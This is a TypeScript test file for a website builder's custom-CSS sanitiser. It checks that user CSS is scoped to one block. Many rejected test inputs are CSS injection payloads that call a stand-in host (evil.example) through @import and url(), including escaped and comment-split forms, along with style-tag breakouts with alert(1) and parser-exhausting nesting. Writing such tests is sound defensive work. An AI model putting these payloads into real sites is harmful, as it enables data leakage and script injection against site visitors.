/** A block's own CSS holds within the block; whatever is written, nothing else can be meant. */
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { compileStyles } from './compileStyles.ts'
import { compileCustomCss, readCustomCss } from './customCss.ts'

test('F-EDIT-06 rules hold for the block and what is in it, at a width where one is named', () => {
  const css =
    'max-width: 40rem; & { color: red } &:hover img, p > a { scale: 1.03; opacity: .9 } /* note */ @media (max-width: 640px) { & { display: none } }'
  expect(compileCustomCss(css, '.s')).toBe(
    '.s{max-width:40rem}.s{color:red}.s:hover img,.s p>a{scale:1.03;opacity:.9}@media (max-width:640px){.s{display:none}}',
  )
  expect(
    compileStyles([{ id: 'a', type: 'group', state: { own_css: '& { color: red }' }, children: [] }]),
  ).toMatch(/^@layer instance\{\.s-\w+\{color:red\}\}$/)
})

test.each([
  ['& + p { color: red }', 'beside'],
  ['&:hover ~ .site-header { color: red }', 'beside'],
  ['~ p { color: red }', 'beside'],
  ['body & { color: red }', 'holds the block'],
  [':is(body, &) { color: red }', 'cannot be used'],
  ['&x { color: red }', 'cannot be used'],
  [':root { color: red }', 'whole page'],
  ['& } body { color: red', 'not closed'],
  ['& { color: red } } body { color: red }', 'cannot be used'],
  ['@import "//evil.example/x.css";', 'cannot be used'],
  ['@font-face { src: url(//evil.example) }', 'cannot be used'],
  ['& { background: url(//evil.example/x) }', 'cannot be used'],
  ['& { position: fixed }', 'stays in its place'],
  ['& { color: red !important }', 'cannot be used'],
  ['& { --accent: red }', 'cannot be used'],
  ['& { color: red', 'not closed'],
  ['@media (min-width: 1px) { @media print { & { color: red } } }', 'within another'],
  ['</style><script>', 'cannot be used'],
  ['a[href^="https://x"]:not(b { color: red }', 'cannot be used'],
  // Words that are written so that a reader of text does not see them, while a browser does.
  ['& { background: \\75rl(//evil.example/x) }', 'cannot be used'],
  ['& { background: u\\72 l(//evil.example/x) }', 'cannot be used'],
  ['& { background: ur/**/l(//evil.example/x) }', 'cannot be used'],
  ['& { background: url/**/(//evil.example/x) }', 'cannot be used'],
  ['& { background: URL( "//evil.example/x" ) }', 'cannot be used'],
  ['& { background: url(\\"x) }', 'cannot be used'],
  ['& { background: image-set("//evil.example/x" 1x) }', 'cannot be used'],
  ['& { background: -webkit-image-set("//evil.example/x" 1x) }', 'cannot be used'],
  ['& { background: cross-fade("//evil.example/x", red) }', 'cannot be used'],
  ['& { background: element(#password) }', 'cannot be used'],
  ['& { background: paint(x) }', 'cannot be used'],
  ['& { background: src("//evil.example/x") }', 'cannot be used'],
  ['& { background: -moz-element(#x) }', 'cannot be used'],
  ['& { width: expression(alert(1)) }', 'cannot be used'],
  ['& { width: exp/**/ression(alert(1)) }', 'cannot be used'],
  ['& { -moz-binding: url(//evil.example/x.xml#y) }', 'cannot be used'],
  ['& { behavior: url(x.htc) }', 'cannot be used'],
  ['& { c\\6flor: red }', 'cannot be used'],
  ['& { *color: red }', 'cannot be used'],
  ['@\\69mport "//evil.example/x.css";', 'cannot be used'],
  ['& { color: red } @import url(//evil.example/x.css);', 'cannot be used'],
  ['@media print { @import "//evil.example/x"; }', 'cannot be used'],
  ['@charset "utf-7"; & { color: red }', 'cannot be used'],
  ['@namespace x "//evil.example"; & { color: red }', 'cannot be used'],
  ['@font-face { font-family: x; src: url(//evil.example/a) }', 'cannot be used'],
  ['@layer x { & { color: red } }', 'cannot be used'],
  ['@supports (color: red) { & { color: red } }', 'cannot be used'],
  ['@media (min-width: 1px), all { & { color: red } }', 'cannot be used'],
  ['@keyframes x { to { color: red } }', 'cannot be used'],
  ['& { color: red } <!-- body { color: red } -->', 'cannot be used'],
  ['& { color: red }</style><script>alert(1)</script>', 'cannot be used'],
  ['& { font-family: "</style>" }', 'cannot be used'],
  ['& { font-family: "a\nb" }', 'cannot be used'],
  ['& { color: red /* }', 'not closed'],
  ['& { color: red } /*', 'not closed'],
  ['& { color: red; & p { color: blue } }', 'cannot be used'],
  [':is(:root) { color: red }', 'whole page'],
  [':where(html, :host) { color: red }', 'whole page'],
  ['&|p { color: red }', 'cannot be used'],
  ['svg|a { color: red }', 'cannot be used'],
  ['& || td { color: red }', 'cannot be used'],
  ['& /deep/ p { color: red }', 'cannot be used'],
  ['&::cue { color: red }', 'cannot be used'],
  ['& p, & & { color: red }', 'stands once'],
  ['&:not(&) { color: red }', 'stands once'],
  ['{ color: red }', 'cannot be used'],
  ['a, { color: red }', 'cannot be used'],
  [', a { color: red }', 'cannot be used'],
  ['& > { color: red }', 'cannot be used'],
  ['& { position: FIXED }', 'stays in its place'],
  ['& { position: sticky }', 'stays in its place'],
  ['& { position: f\\69xed }', 'cannot be used'],
  ['& { color: red !/**/important }', 'cannot be used'],
  // What is not closed takes the rest of the page's sheet along.
  [`& { font-family: '"'" }`, 'not closed'],
  ['& { margin: )( }', 'not closed'],
  ['& { margin: calc(1px }', 'not closed'],
  ['grid-template-columns: [a', 'not closed'],
])('F-EDIT-06 %s is refused and named', (css, words) => {
  const read = readCustomCss(css)
  expect(read.ok ? 'taken' : read.reason).toContain(words)
  expect(compileCustomCss(css, '.s')).toBe('')
})

test('F-EDIT-06 a value that does not close what it opens is left out of the sheet, in own CSS and in styles alike', () => {
  for (const value of [`'"'"`, `"`, ')(', '[a', '(a]', 'calc(1px', `"a" '`, `["']`, `(")`]) {
    expect(compileCustomCss(`& { font-family: ${value} }`, '.s'), value).toBe('')
    const styled = (style: Record<string, string>) =>
      compileStyles([{ id: 'a', type: 'group', state: { style }, children: [] }])
    expect(styled({ 'grid-template-columns': value }), value).toBe('')
    expect(styled({ 'font-family': value }), value).toBe('')
  }
})

test('F-EDIT-06 brackets within brackets are read to a depth, and the longest text of them in no time', () => {
  const deep = (open: string, close: string, count: number) => open.repeat(count) + close.repeat(count)
  for (const css of [
    `margin: ${deep('(', ')', 1900)}`,
    `margin: ${deep('calc(', ')', 600)}`,
    `${deep(':not(', ')', 600)} { color: red }`,
    deep('{', '}', 2000),
    deep('@media print{', '}', 280),
    '/*'.repeat(2000),
    '&'.repeat(4000),
    'a,'.repeat(2000),
  ])
    expect(readCustomCss(css), css.slice(0, 30)).toMatchObject({ ok: false })
})

test.each([
  'color: var(--color-accent, red)',
  'width: calc(100% - 2 * var(--space-3)); padding: max(1rem, 2vw) min(3rem, 4vw)',
  'background: linear-gradient(90deg, rgb(0 0 0 / 40%), #fff8 50%), #123',
  "font-family: 'Fraunces Variable', serif",
  'grid-template-columns: [full-start] minmax(1rem, 1fr) [main-start] repeat(2, 1fr)',
  'transition: opacity .2s cubic-bezier(.4, 0, .2, 1)',
  '& li:nth-child(2n + 1)::before { color: red }',
  '& > a[href="/shop"]:not(.x):focus-visible { color: red }',
  ':is(h1, h2) + p { color: red }',
  '@media (prefers-color-scheme: dark) { & { color: #eee } p { opacity: 0.5 } }',
  '@media print { & { display: none } }',
  '/* first } */ & { color: /* then { */ red }',
])('F-EDIT-06 %s is taken', (css) => {
  expect(readCustomCss(css)).toMatchObject({ ok: true })
  expect(compileCustomCss(css, '.s')).toMatch(/^(?:@media [^{]*\{)?\.s/)
})

test('F-EDIT-06 of any text, what is taken over has only selectors that begin with the block, balanced braces, and no way out of the sheet', () => {
  const part = fc.constantFrom(
    '&',
    '{',
    '}',
    ';',
    ':',
    ',',
    ' ',
    'color',
    'red',
    'a',
    '>',
    '+',
    '~',
    '*',
    '(',
    ')',
    '@media (min-width: 9px)',
    '@import',
    ':hover',
    ':is',
    ':not',
    ':has',
    '[',
    ']',
    '"',
    '/*',
    '*/',
    '\\',
    '<',
    '.x',
    '#y',
    'display',
    'none',
    ':root',
    'html',
  )
  fc.assert(
    fc.property(
      fc.array(part, { maxLength: 24 }).map((parts) => parts.join('')),
      (css) => {
        const out = compileCustomCss(css, '.s')
        if (out === '') return
        expect(out).not.toMatch(/[<\\]|\/\*|url\(|@import/)
        const flat = out.replaceAll(/@media [^{]*\{((?:[^{}]*\{[^{}]*\})*)\}/g, '$1')
        const rules = [...flat.matchAll(/([^{}]*)\{([^{}]*)\}/g)]
        expect(rules.map(([all]) => all).join('')).toBe(flat)
        for (const [, selectors = ''] of rules) {
          let depth = 0
          for (const selector of selectors.split(/,(?![^(]*\))/)) expect(selector.startsWith('.s')).toBe(true)
          for (const sign of selectors) depth += sign === '(' ? 1 : sign === ')' ? -1 : 0
          expect(depth).toBe(0)
        }
      },
    ),
    { numRuns: 5000 },
  )
})
